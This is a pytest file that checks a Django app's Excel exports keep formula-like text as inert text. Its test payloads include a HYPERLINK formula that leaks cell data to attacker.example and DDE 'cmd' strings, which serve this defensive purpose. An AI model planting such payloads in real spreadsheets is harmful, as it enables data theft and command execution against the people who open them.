"""Excel exports never carry live formulas: text that starts like a formula stays text.

Every workbook is opened back with openpyxl, which shows a formula cell as data type ``f``.
"""

from __future__ import annotations

import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from boardpack.core import datasets, xlsx
from boardpack.core.models import Organisation, ReportingPeriod
from boardpack.finance.models import SavingLine
from tests.core.records import MAKERS

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'
PAYLOADS = [
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "boardpack"


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _formulas(content: bytes) -> list[str]:
    return [
        f"{c.parent.title}!{c.coordinate}={c.value!r}"
        for c in _cells(content)
        if c.data_type == "f"
    ]


def test_formula_like_text_is_written_as_text():
    content = xlsx.workbook(
        [xlsx.SheetData("payloads", ["text", "amount"], [[p, Decimal("1.5")] for p in PAYLOADS])]
    )
    assert _formulas(content) == []
    sheet = load_workbook(io.BytesIO(content))["payloads"]
    texts = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # The text itself is kept, character for character (a CR reads back as the same CR).
    assert texts == PAYLOADS
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s"
        assert row[0].quotePrefix  # Excel keeps it text when someone edits the cell
        assert row[1].data_type == "n" and row[1].value == 1.5


def test_plain_numbers_and_blanks_are_left_alone():
    content = xlsx.workbook([xlsx.SheetData("s", ["a", "b", "c"], [[-5, None, "-"]])])
    sheet = load_workbook(io.BytesIO(content))["s"]
    a, b, c = sheet[2]
    assert (a.value, a.data_type) == (-5, "n")
    assert b.value is None
    assert c.value == "-" and c.data_type == "s"


def _poison(value: Any) -> Any:
    """Every text in a document (amounts are strings too: not those) made to start like DDE."""
    if isinstance(value, dict):
        return {k: _poison(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_poison(v) for v in value]
    if isinstance(value, str) and value and not _is_number(value):
        return "=cmd|' /C calc'!A0 " + value
    return value


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


RECORDS_THE_DEMO_LACKS = {"risks": MAKERS["governance.Risk"]}


@pytest.mark.django_db
@pytest.mark.parametrize("name", datasets.names())
def test_every_datasets_excel_export_writes_formulas_as_text(name):
    """Every registered dataset, present and future: its export goes through the one writer."""
    dataset = datasets.get(name)
    somerset = Organisation.objects.get(slug="somerset")
    if name in RECORDS_THE_DEMO_LACKS:  # e.g. the seeds give no risks: make one to export
        RECORDS_THE_DEMO_LACKS[name]("somerset")
    periods = list(ReportingPeriod.objects.filter(organisation=somerset).order_by("-month"))
    # A dataset that needs no period (meetings, actions) is exported whole first: the demo's
    # meetings have no date (the minutes state none), so no period holds them.
    candidates: list[ReportingPeriod | None] = [None] if not dataset.needs_period else []
    for period in candidates + periods:
        try:
            document = dataset.document(somerset, period)
        except LookupError:
            continue
        content = dataset.to_xlsx(_poison(document))
        assert _formulas(content) == [], f"{name} {period and period.key} wrote live formulas"
        poisoned = [c for c in _cells(content) if str(c.value).startswith("=cmd|")]
        if poisoned:
            assert all(c.data_type == "s" for c in poisoned)
            return
    pytest.fail(f"No Somerset period gives {name} any text to check")


@pytest.mark.django_db
def test_imported_text_exports_as_text_through_the_command_and_the_template(tmp_path):
    line = SavingLine.objects.filter(organisation__slug="somerset").order_by("pk").first()
    assert line is not None
    line.description = HYPERLINK
    line.save()
    export = tmp_path / "savings.xlsx"
    call_command("export", "savings", "--period", "2024-06", "--format", "xlsx", "-o", str(export))
    template = tmp_path / "template.xlsx"
    call_command(
        "import_template", "savings", "-o", str(template), "--period", "2024-06", "--with-figures"
    )
    for path in (export, template):
        content = path.read_bytes()
        assert _formulas(content) == [], path.name
        found = [c for c in _cells(content) if c.value == HYPERLINK]
        assert found and all(c.data_type == "s" for c in found), path.name


def test_only_the_shared_writer_makes_workbooks():
    def makes_one(text: str) -> bool:
        imported = re.search(r"from openpyxl[.\w]* import [^\n]*\bWorkbook\b", text)
        return bool(re.search(r"openpyxl\.Workbook\(", text)) or bool(
            imported and re.search(r"\bWorkbook\(", text)
        )

    makers = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if makes_one(path.read_text()) and path != SRC / "core" / "xlsx.py"
    ]
    assert makers == [], (
        "Write Excel files with boardpack.core.xlsx (new_workbook / workbook / to_bytes), "
        f"which keeps formula-like text as text; these make their own: {makers}"
    )
